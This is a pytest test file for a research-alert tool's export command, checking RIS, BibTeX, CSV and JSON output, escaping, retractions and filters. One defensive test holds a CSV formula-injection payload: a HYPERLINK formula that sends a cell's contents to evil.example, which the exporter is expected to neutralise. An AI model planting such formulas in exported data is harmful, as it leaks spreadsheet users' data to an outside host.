"""`watcher export`: every fixture study (the real PubMed records polled through the local
E-utilities server, the real ClinicalTrials.gov and ISRCTN records through their parsers) in
RIS, BibTeX, CSV and JSON lines, read back by independent readers (rispy, bibtexparser, csv,
json); unusual text (braces, %, &, accents, 500 authors, no date) and retractions survive;
--since, --query, --condition and --kind pick the right studies; mistakes are one line."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import bibtexparser
import pytest
import rispy
from bibtexparser import middlewares

from tests.helpers import FIXTURES, PUBMED_FILES, QUERIES_YAML, Env, days_ago, renumbered, retracted
from watcher.db import Store
from watcher.fakes.ctgov import studies_in
from watcher.fakes.eutils import EutilsServer
from watcher.models import Study
from watcher.parsers import clinicaltrials, isrctn

TRIALS_YAML = """\
  - id: trials
    condition: Registered trials
    sources:
      clinicaltrials:
        condition: depression
        enabled: false
"""
UNUSUAL_PMID, RETRACTED_PMID, NOTICE = "99000001", "99000002", "99000003"
UNUSUAL_TITLE = ('Ketamine {braces} and }unbalanced{ at 50% & more: Ærø naïve café — "$5" '
                 "#1 a_b back\\slash")
TRIALS_STORED = "2024-03-01T09:00:00+00:00"


def _unusual_article() -> ET.Element:
    """A real record with a title full of what BibTeX and RIS must escape, 500 authors (the
    first with an apostrophe and accents) and no publication date."""
    article = renumbered(FIXTURES / "pubmed_metapub/28731372.xml", UNUSUAL_PMID)
    art = article.find("MedlineCitation/Article")
    title = art.find("ArticleTitle")
    for part in list(title):  # its <sub> markup
        title.remove(part)
    title.text = UNUSUAL_TITLE
    authors = art.find("AuthorList")
    for author in list(authors):
        authors.remove(author)
    for n in range(500):
        author = ET.SubElement(authors, "Author", {"ValidYN": "Y"})
        ET.SubElement(author, "LastName").text = "O'Brien-Müller" if n == 0 else f"Ørsted{n}"
        ET.SubElement(author, "ForeName").text = "José"
        ET.SubElement(author, "Initials").text = "J"
    pub_date = art.find("Journal/JournalIssue/PubDate")
    for part in list(pub_date):
        pub_date.remove(part)
    for dated in art.findall("ArticleDate"):
        art.remove(dated)
    return article


def _store_trials(store: Store) -> list[int]:
    """The real registry records, parsed by the real parsers, kept as a poll keeps them, found
    by the 'trials' query (stored long ago: --since leaves them out)."""
    records = []
    for path in sorted(FIXTURES.glob("ctgov_*/*.json")):
        if path.name.startswith("legacy_"):  # the retired v1 API's answers: no v2 study
            continue
        records += [("clinicaltrials", r) for r in clinicaltrials.study_records(studies_in(path))]
    answer = isrctn.parse_search((FIXTURES / "isrctn_real/search_mecfs_3of11.xml").read_bytes())
    records += [("isrctn", r) for r in isrctn.parse_records(answer.trials)]
    ids = []
    with store.transaction():
        for source, record in records:
            assert record.study is not None, record.error
            saved = store.save_record(source, record.source_id, record.raw, record.study,
                                      TRIALS_STORED)
            store.add_match(saved.study_id, "trials", source, run_id=0, now=TRIALS_STORED,
                            excluded=None, labels=[])
            ids.append(saved.study_id)
    return sorted(set(ids))


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """A database filled the way the bot fills it: `watcher poll` of three queries over every
    real PubMed fixture (and an unusual and a retracted record), and the registries' trials."""
    with EutilsServer() as server:
        for n, path in enumerate(PUBMED_FILES, start=1):
            server.add_files([path], entry_date=days_ago(n))
        server.add_article(_unusual_article(), entry_date=days_ago(1))
        server.add_article(retracted(renumbered(FIXTURES / "pubmed_metapub/36318760.xml",
                                                RETRACTED_PMID), NOTICE), entry_date=days_ago(1))
        env = Env(tmp_path_factory.mktemp("export"), server)
        env.write_queries(QUERIES_YAML + TRIALS_YAML)
        polled = env.cli("poll", "--query", "everything", "--query", "depression",
                         "--query", "anxiety")
        assert polled.exit_code == 0, polled.stderr
        with env.store() as store:
            _store_trials(store)
        yield env


def _export(env: Env, *args: str) -> str:
    result = env.cli("export", *args)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def _stored(env: Env) -> dict[int, Study]:
    with env.store() as store:
        return {row["id"]: store.get_study(row["id"]) for row in store.db["studies"].rows}


def _key(study: Study) -> str:
    """The id a reader finds the study by: its PMID, else its registry id."""
    return study.ids.get("pmid") or study.ids.get("nct") or study.ids["isrctn"]


def _first_last_name(study: Study) -> str:
    listed = study.details.get("author_list") or []
    if listed:
        return listed[0]["collective_name"] or listed[0]["last_name"]
    return study.authors[0] if study.authors else ""


def _flat(text: str) -> str:
    return " ".join(text.split())


def _read_ris(text: str) -> dict[str, dict]:
    return {ref["accession_number"]: {
        "title": ref["title"], "first": (ref.get("authors") or [""])[0],
        "year": ref.get("year", ""), "doi": ref.get("doi", ""),
        "count": len(ref.get("authors", [])),
        "keywords": ref.get("keywords", []), "notes": ref.get("notes", []),
        "type": ref["type_of_reference"]} for ref in rispy.loads(text)}


def _read_bibtex(text: str) -> dict[str, dict]:
    library = bibtexparser.parse_string(text, append_middleware=[
        middlewares.LatexDecodingMiddleware(keep_braced_groups=True),
        middlewares.SeparateCoAuthors(),
        middlewares.SplitNameParts()])
    assert not library.failed_blocks
    found = {}
    for entry in library.entries:
        fields = {f.key: f.value for f in entry.fields}
        names = fields.get("author") or []
        first = " ".join(names[0].last).strip("{}") if names else ""
        found[fields.get("pmid") or fields["number"]] = {
            "title": fields["title"], "first": first, "year": fields.get("year", ""),
            "doi": fields.get("doi", ""), "count": len(names), "type": entry.entry_type,
            "keywords": fields.get("keywords", ""), "note": fields.get("note", ""),
            "fields": fields}
    return found


def _read_csv(text: str) -> dict[str, dict]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {row["pmid"] or row["registry_ids"].split("; ")[0]: {
        "title": row["title"], "first": row["first_author"], "year": row["year"],
        "doi": row["doi"], "count": len(row["authors"].split("; ")) if row["authors"] else 0,
        "row": row} for row in rows}


def _read_json(text: str) -> dict[str, dict]:
    found = {}
    for line in text.splitlines():
        doc = json.loads(line)
        ids = doc["ids"]
        found[ids.get("pmid") or ids.get("nct") or ids["isrctn"]] = doc
    return found


def test_every_stored_study_reads_back_the_same_in_every_format(filled):
    stored = _stored(filled)
    assert len(stored) > 40 and sum(s.kind == "trial" for s in stored.values()) == 27
    read = {"ris": _read_ris(_export(filled, "--format", "ris")),
            "bibtex": _read_bibtex(_export(filled, "--format", "bibtex")),
            "csv": _read_csv(_export(filled, "--format", "csv"))}
    docs = _read_json(_export(filled, "--format", "json"))
    for name, found in read.items():
        assert sorted(found) == sorted(_key(s) for s in stored.values()), name
    for study_id, study in stored.items():
        key = _key(study)
        for name, found in read.items():
            got = found[key]
            assert _flat(got["title"]) == _flat(study.title), (name, key)
            assert got["first"].startswith(_first_last_name(study)), (name, key, got["first"])
            assert str(got["year"]) == str(study.year or ""), (name, key)
            assert got["doi"] == study.ids.get("doi", ""), (name, key)
        doc = docs[key]
        assert (doc["study_id"], doc["title"], doc["authors"], doc["year"], doc["ids"]) == (
            study_id, study.title, study.authors, study.year, study.ids)
        assert doc["details"] == study.details


def test_papers_and_trials_are_typed_for_reference_managers(filled):
    text = _export(filled, "--format", "ris")
    # every line a tag (EndNote's import stops at one that is not), a blank between references
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - .*", line) for line in text.splitlines() if line)
    ris = _read_ris(text)
    bib = _read_bibtex(_export(filled, "--format", "bibtex"))
    assert ris["28731372"]["type"] == "JOUR" and bib["28731372"]["type"] == "article"
    trial = ris["NCT03630471"]
    assert trial["type"] == "CTRIAL" and bib["NCT03630471"]["type"] == "misc"
    assert any(n.startswith("Status: ") for n in trial["notes"])
    # the one vocabulary of the digests, never the registry's codes (COMPLETED, PHASE2)
    assert "Status: Completed" in trial["notes"]
    rows = [row["row"] for row in _read_csv(_export(filled, "--format", "csv")).values()]
    statuses, phases = {row["status"] for row in rows}, {row["phase"] for row in rows}
    assert not any(re.fullmatch(r"[A-Z_]+", s) for s in statuses if s), statuses
    assert not any(re.search(r"PHASE\d", p) for p in phases), phases
    assert "Registered trials" in trial["keywords"]
    fields = bib["NCT03630471"]["fields"]
    assert "NCT03630471" in fields["registry"] and fields["status"] and fields["sponsor"]
    assert "Status:" in fields["note"] and "Sponsor:" in fields["note"]
    docs = _read_json(_export(filled, "--format", "json"))
    assert docs["28731372"]["events"][0]["kind"] == "new"
    assert docs["28731372"]["events"][0]["created"]
    assert "Everything in the corpus" in docs["28731372"]["conditions"]


def test_unusual_text_survives_every_format(filled):
    expected = ("O'Brien-Müller", "Ørsted499")
    ris = _read_ris(_export(filled, "--format", "ris"))[UNUSUAL_PMID]
    bib_text = _export(filled, "--format", "bibtex")
    bib = _read_bibtex(bib_text)[UNUSUAL_PMID]
    table = _read_csv(_export(filled, "--format", "csv"))[UNUSUAL_PMID]
    doc = _read_json(_export(filled, "--format", "json"))[UNUSUAL_PMID]
    for got in (ris, bib, table):
        assert got["title"] == UNUSUAL_TITLE
        assert got["first"].startswith(expected[0]) and got["count"] == 500
        assert got["year"] == ""
    assert ris["first"] == "O'Brien-Müller, José"
    assert doc["title"] == UNUSUAL_TITLE and doc["year"] is None and len(doc["authors"]) == 500
    assert table["row"]["authors"].split("; ")[-1] == "Ørsted499, José"
    # the BibTeX file itself compiles: its braces balance and % & $ # _ are escaped
    raw = next(b for b in bib_text.split("\n@") if f"pmid{UNUSUAL_PMID}" in b)
    assert raw.count("{") - raw.count("\\{") == raw.count("}") - raw.count("\\}")
    for char in "%&$#_":
        assert f"\\{char}" in raw
    assert "O'Brien-M{\\\"u}ller, Jos{\\'e}" in raw  # accents as LaTeX accents


def test_a_retracted_paper_says_so(filled):
    ris = _read_ris(_export(filled, "--format", "ris"))[RETRACTED_PMID]
    bib = _read_bibtex(_export(filled, "--format", "bibtex"))[RETRACTED_PMID]
    row = _read_csv(_export(filled, "--format", "csv"))[RETRACTED_PMID]["row"]
    assert "Retracted Publication" in ris["keywords"]
    assert f"Retracted (notice PMID {NOTICE})" in ris["notes"]
    assert "Retracted Publication" in bib["keywords"] and "Retracted" in bib["note"]
    assert row["retracted"] == "yes" and NOTICE in row["corrections"]
    assert _read_csv(_export(filled, "--format", "csv"))["28731372"]["row"]["retracted"] == ""


def _matched_by(env: Env, query_id: str) -> set[int]:
    with env.store() as store:
        return {row["study_id"] for row in store.db["matches"].rows_where(
            "query_id = ? AND excluded IS NULL", [query_id])}


def _exported_ids(env: Env, *args: str) -> set[int]:
    return {json.loads(line)["study_id"]
            for line in _export(env, "--format", "json", *args).splitlines()}


def test_query_condition_and_kind_pick_their_studies(filled):
    depression = _matched_by(filled, "depression")
    stored = _stored(filled)
    assert 0 < len(depression) < len(stored)
    assert _exported_ids(filled, "--query", "depression") == depression
    assert _exported_ids(filled, "--condition", "depression") == depression
    both = _exported_ids(filled, "--query", "depression", "--query", "anxiety")
    assert both == depression | _matched_by(filled, "anxiety")
    trials = {i for i, s in stored.items() if s.kind == "trial"}
    assert _exported_ids(filled, "--kind", "trial") == trials
    assert _exported_ids(filled, "--kind", "publication") == set(stored) - trials
    assert _exported_ids(filled, "--kind", "trial", "--query", "depression") == set()


def test_since_picks_studies_stored_on_or_after_the_day(filled):
    stored = _stored(filled)
    trials = {i for i, s in stored.items() if s.kind == "trial"}
    assert _exported_ids(filled, "--since", "2024-03-01") == set(stored)
    assert _exported_ids(filled, "--since", "2024-03-02") == set(stored) - trials
    assert _export(filled, "--format", "csv", "--since", "2999-01-01").count("\n") == 1


def test_output_file_and_an_empty_export(filled, tmp_path):
    out = tmp_path / "refs" / "alerts.ris"
    result = filled.cli("export", "--format", "ris", "-o", str(out))
    assert result.exit_code == 0 and result.stdout == ""
    assert result.stderr.strip() == f"wrote {len(_stored(filled))} studies as ris to {out}"
    assert len(rispy.loads(out.read_text(encoding="utf-8"))) == len(_stored(filled))
    assert _export(filled, "--format", "bibtex", "--since", "2999-01-01") == ""


@pytest.mark.parametrize(("args", "message"), [
    (["--since", "last week"], "error: --since 'last week' is not a date: write it as "
                               "YYYY-MM-DD"),
    (["--since", "2026-13-01"], "error: --since '2026-13-01' is not a date"),
    (["--since", ""], "error: --since '' is not a date"),
    (["--query", "nope"], "error: unknown query 'nope' (known: anxiety, depression, "
                          "everything, trials)"),
    (["--condition", "Nope"], "error: unknown condition 'Nope' (known: Anxiety, Depression, "
                              "Everything in the corpus, Registered trials)"),
])
def test_a_mistake_is_one_clear_line(filled, args, message):
    result = filled.cli("export", "--format", "csv", *args)
    assert result.exit_code == 2 and result.stdout == ""
    assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith(message)


def test_a_mistyped_database_is_refused_not_exported_empty(filled, tmp_path):
    result = filled.cli("export", "--format", "ris", "--db", str(tmp_path / "typo.db"))
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr == f"error: no database at {tmp_path / 'typo.db'} (--db)\n"
    assert not (tmp_path / "typo.db").exists()


def test_without_the_queries_conditions_are_named_by_query_id(filled, tmp_path):
    result = filled.cli("export", "--format", "json", "--query", "depression",
                        WATCHER_QUERIES=str(tmp_path / "missing"))
    assert result.exit_code == 0, result.stderr
    assert result.stderr.startswith("note: queries not read")
    docs = [json.loads(line) for line in result.stdout.splitlines()]
    assert docs and all("depression" in d["conditions"] for d in docs)


def test_a_study_every_query_set_aside_is_left_out_as_in_the_digests(env):
    """A paper the query's filters excluded (noise) is not exported; one it kept is."""
    from tests.helpers.pubmed import studies_of
    from tests.helpers.studies import store_study

    kept, noise = studies_of((FIXTURES / "biopython/pubmed2.xml").read_bytes())[:2]
    env.write_queries(QUERIES_YAML)
    with env.store() as store:
        for study, excluded in ((kept, None), (noise, "non-human study")):
            study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
            store.add_match(study_id, "everything", "pubmed", run_id=0,
                            now="2026-01-05T00:00:00+00:00", excluded=excluded, labels=[])
    docs = _read_json(_export(env, "--format", "json"))
    assert list(docs) == [kept.ids["pmid"]]
    assert docs[kept.ids["pmid"]]["conditions"] == ["Everything in the corpus"]


@pytest.mark.hostile
def test_a_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(env):
    """A title (or any text) starting with = + - @ opened in Excel or LibreOffice would be run
    as a formula (=HYPERLINK leaks to a site when clicked): the CSV cell starts with a quote
    so it shows as text; the other formats keep the title as it is."""
    from dataclasses import replace

    from tests.helpers.pubmed import studies_of
    from tests.helpers.studies import store_study

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full text")'
    (study,) = studies_of((FIXTURES / "biopython/pubmed2.xml").read_bytes())[:1]
    study = replace(study, title=hostile, abstract="-2+3 mg")
    env.write_queries(QUERIES_YAML)
    with env.store() as store:
        study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
        store.add_match(study_id, "everything", "pubmed", run_id=0,
                        now="2026-01-05T00:00:00+00:00", excluded=None, labels=[])
    (row,) = csv.DictReader(io.StringIO(_export(env, "--format", "csv"), newline=""))
    assert row["title"] == "'" + hostile
    assert row["abstract"] == "'-2+3 mg"
    assert row["pmid"] == study.ids["pmid"]  # a plain value is untouched
    (doc,) = _read_json(_export(env, "--format", "json")).values()
    assert doc["title"] == hostile


@pytest.mark.hostile
def test_output_through_a_link_or_into_a_pipe_is_written_not_replaced(filled, tmp_path):
    """-o a symlink (a shared references folder) writes the file it points to, the link kept;
    -o a named pipe (or /dev/stdout, /dev/null) writes into it, never replaces it with a file
    (as root, -o /dev/null would otherwise replace the device itself)."""
    import os
    import threading

    target = tmp_path / "library" / "alerts.ris"
    target.parent.mkdir()
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "alerts.ris"
    link.symlink_to(target)
    result = filled.cli("export", "--format", "ris", "-o", str(link))
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and link.resolve() == target
    assert len(rispy.loads(target.read_text(encoding="utf-8"))) == len(_stored(filled))

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()), daemon=True)
    reader.start()
    result = filled.cli("export", "--format", "json", "-o", str(pipe))
    reader.join(timeout=20)
    assert result.exit_code == 0, result.stderr
    assert pipe.is_fifo() and len(got[0].decode().splitlines()) == len(_stored(filled))


def test_an_online_only_paper_has_no_doi_for_pages(env):
    """A real record with no pages but its DOI as ELocationID (online-only): the DOI is the
    DOI, never its page range as well (Zotero and EndNote would show 'Pages: 10.1177/...')."""
    import re as _re

    from tests.helpers.pubmed import studies_of
    from tests.helpers.studies import store_study

    xml = (FIXTURES / "pubmed_metapub/28731372.xml").read_bytes()
    (study,) = studies_of(_re.sub(rb"<Pagination>.*?</Pagination>", b"", xml, flags=_re.S))
    env.write_queries(QUERIES_YAML)
    with env.store() as store:
        study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
        store.add_match(study_id, "everything", "pubmed", run_id=0,
                        now="2026-01-05T00:00:00+00:00", excluded=None, labels=[])
    (ref,) = rispy.loads(_export(env, "--format", "ris"))
    assert ref["doi"] == "10.1177/1352458517722646" and "start_page" not in ref
    (entry,) = _read_bibtex(_export(env, "--format", "bibtex")).values()
    assert entry["doi"] == "10.1177/1352458517722646" and "pages" not in entry["fields"]
    (row,) = csv.DictReader(io.StringIO(_export(env, "--format", "csv"), newline=""))
    assert row["pages"] == "" and row["volume"] == ref["volume"]
